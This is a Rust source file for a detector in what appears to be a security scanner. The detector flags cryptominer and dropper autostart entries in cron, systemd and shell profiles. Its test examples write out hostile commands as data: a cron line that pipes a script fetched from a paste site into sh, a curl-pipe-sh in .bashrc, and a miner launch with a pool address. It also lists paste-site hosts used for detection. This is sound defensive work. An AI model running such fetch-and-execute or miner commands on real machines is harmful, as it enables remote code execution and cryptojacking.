//! # Miner autostart
//!
//! Something that starts by itself and is a miner by its command line, or brings one: it fetches
//! code and runs it on a schedule, decodes and runs it, or runs a program from a folder for
//! temporary files. A miner's command line suspects; the ways in which droppers work are
//! circumstances where several come together, and context where one stands alone.
//!
//! Source: cron tables, units and timers of systemd, services of supervisord, runit and upstart,
//! scripts of init and of shells, desktop entries, hooks of logrotate, apt and git, static pods and
//! compose files, read as commands and not as substrings; pieces of commands of known families.
//!
//! ## False positives
//!
//! Installers and updaters fetch and run code. Administrators write odd scripts. A unit that was
//! disabled still lies on the disk.
//!
//! ## Response
//!
//! Preserve the file with its times before touching it. Compare its time with that of other files
//! of the same minute. Remove the schedule before the program, or the program comes back.

use minehound_model::{
    Arg, Autostart, AutostartPlace, DetectorId, Dimension, Dossier, Element, FactKind, Nature,
    Observation, Sign,
};

use super::program::base;
use crate::detector::with_names;
use crate::knowledge::NameMatch;
use crate::{Detector, Example, Expect, Judgement, Knowledge, Meta};

pub(super) struct MinerAutostart;

const MINER: (Sign, Nature) = (Sign("miner-autostart"), Nature::Direct);
const NAMED: (Sign, Nature) = (Sign("miner-autostart-named"), Nature::Circumstance);
const FAMILY: (Sign, Nature) = (Sign("family-autostart"), Nature::Circumstance);
const DROPPER: (Sign, Nature) = (Sign("dropper-autostart"), Nature::Circumstance);
const SHAPE: (Sign, Nature) = (Sign("autostart-shape"), Nature::Context);

/// Shapes in which code from elsewhere is run unseen.
const RUN_UNSEEN: [&str; 3] = ["fetch-pipe-shell", "decode-pipe-shell", "fetch-then-run"];

/// Where anybody leaves a text for anybody.
const PASTE_SITES: [&str; 8] = [
    "pastebin.",
    "paste.ee",
    "hastebin.",
    "ghostbin.",
    "rentry.co",
    "transfer.sh",
    "termbin.com",
    "ix.io",
];

static META: Meta = Meta {
    id: DetectorId("MH-SYS-003"),
    name: "miner-autostart",
    dimension: Dimension::System,
    items: &["SYS-4", "SYS-5"],
    techniques: &["T1053.003", "T1543.002", "T1037.004", "T1546.004", "T1105"],
    since: "0.1.0",
    needs: &[FactKind::Autostart],
    needs_any: &[],
    signs: &[MINER, NAMED, FAMILY, DROPPER, SHAPE],
    source: include_str!("miner_autostart.rs"),
    chinese: include_str!("miner_autostart.zh.md"),
};

impl Detector for MinerAutostart {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn examples(&self) -> &'static [Example] {
        EXAMPLES
    }

    fn inspect(&self, dossier: &Dossier, knowledge: &Knowledge) -> Judgement {
        let entries = dossier.facts::<Autostart>();
        let findings = entries.filter_map(|(seen, it)| finding(seen, it, knowledge));
        findings.collect::<Vec<_>>().into()
    }
}

fn finding(
    seen: &Observation,
    it: &Autostart,
    knowledge: &Knowledge,
) -> Option<minehound_model::Finding> {
    let kind = kind(it, knowledge)?;
    let line = it.line.map_or_else(|| it.path.clone(), |line| format!("{}:{line}", it.path));
    let finding = META
        .finding(kind, seen)
        .with("place", Arg::Text(line))
        .with("command", Arg::Text(it.command.clone()));
    let finding = with_names(finding, "shapes", it.shapes.iter().cloned());
    let finding = with_names(finding, "logins", it.logins.iter().cloned());
    Some(if kind == MINER { finding.showing(Element::Software) } else { finding })
}

fn kind(it: &Autostart, knowledge: &Knowledge) -> Option<(Sign, Nature)> {
    let miner = it.miner.as_ref();
    match () {
        () if miner.is_some_and(|it| it.conclusive) => Some(MINER),
        () if is_family(it, knowledge) => Some(FAMILY),
        () if miner.is_some_and(|it| it.shapes.len() > 1) || names_miner(it, knowledge) => {
            Some(NAMED)
        }
        () if drops(it) => Some(DROPPER),
        () if !it.shapes.is_empty() || it.borrowed_time || it.immutable => Some(SHAPE),
        () => None,
    }
}

/// Whether code from elsewhere is run, and something else is odd about it.
fn drops(it: &Autostart) -> bool {
    let unseen = it.shapes.iter().any(|it| RUN_UNSEEN.contains(&it.as_str()));
    let elsewhere = it.shapes.iter().any(|it| !RUN_UNSEEN.contains(&it.as_str()));
    // Fetched again and again: what is run today need not be what was run yesterday.
    let repeated = matches!(it.place, AutostartPlace::Cron | AutostartPlace::SystemdTimer);
    let paste = PASTE_SITES.iter().any(|site| it.command.contains(site));
    let planted = it.borrowed_time || it.immutable;
    unseen && (elsewhere || repeated || paste || planted || fetches_from_address(&it.command))
        || elsewhere && planted
}

/// Whether a command names a page at a bare address.
fn fetches_from_address(command: &str) -> bool {
    let hosts = command.split("://").skip(1);
    let host = |it: &str| it.split(['/', ':', '"', '\'', ' ']).next().map(str::to_owned);
    hosts.filter_map(host).any(|it| it.parse::<std::net::Ipv4Addr>().is_ok())
}

/// Whether a family of malware is known for the command, the file or the name.
fn is_family(it: &Autostart, knowledge: &Knowledge) -> bool {
    let unit = base(&it.path);
    let families = knowledge.tables().families.iter().flat_map(|it| &it.entries);
    let mut families = families;
    knowledge.family_by_path(&it.path).is_some()
        || families.any(|family| {
            family.services.iter().any(|service| service == unit)
                || family.commands.iter().any(|part| it.command.contains(part))
        })
}

/// Whether a word of the command is the file of a mining program.
fn names_miner(it: &Autostart, knowledge: &Knowledge) -> bool {
    let separators = [' ', ';', '|', '&', '(', ')', '"', '\''];
    let words = it.command.split(separators).filter(|word| !word.starts_with('-'));
    let named = |word: &str| knowledge.miner_named(base(word));
    let sure = |by| matches!(by, NameMatch::Exact | NameMatch::Alias);
    words.filter_map(named).any(|it| sure(it.by))
}

const EXAMPLES: &[Example] = &[
    Example {
        title: "a unit with a miner's command line, and a script that starts one by name",
        given: r#"
            [[autostart]]
            place = "systemd_unit"
            path = "/etc/systemd/system/svc.service"
            command = "/opt/svc -o pool.example:4444 --donate-level 1"
            miner = { pool = "pool.example:4444", shapes = ["pool-url", "donate-level"], conclusive = true }
            [[autostart]]
            place = "rc_local"
            path = "/etc/rc.local"
            line = 3
            command = "/opt/xmrig &"
        "#,
        expect: Expect::Found(&[MINER.0, NAMED.0]),
    },
    Example {
        title: "a table that fetches a script every ten minutes, and a family's unit",
        given: r#"
            [[autostart]]
            place = "cron"
            path = "/etc/cron.d/root"
            line = 1
            command = "(curl -fsSL https://paste.example/raw/x || wget -qO- https://paste.example/raw/x) | sh"
            shapes = ["fetch-pipe-shell"]
            [[autostart]]
            place = "systemd_unit"
            path = "/etc/systemd/system/examplefamily.service"
            command = "/usr/bin/true"
        "#,
        expect: Expect::Found(&[DROPPER.0, FAMILY.0]),
    },
    Example {
        title: "one odd shape alone",
        given: r#"
            [[autostart]]
            place = "profile"
            path = "/home/alice/.bashrc"
            line = 9
            command = "curl -fsSL https://tool.example/install.sh | sh"
            shapes = ["fetch-pipe-shell"]
        "#,
        expect: Expect::Found(&[SHAPE.0]),
    },
    Example {
        title: "a backup that names a folder with a pool in it",
        given: r#"
            [[autostart]]
            place = "cron"
            path = "/etc/cron.d/backup"
            line = 1
            command = "tar czf /backup/pool.tgz /srv/pool"
        "#,
        expect: Expect::LookAlike,
    },
    Example {
        title: "a machine that starts nothing odd",
        given: "autostart = []",
        expect: Expect::Silent,
    },
    Example { title: "no machine was read", given: "", expect: Expect::NotExamined },
];
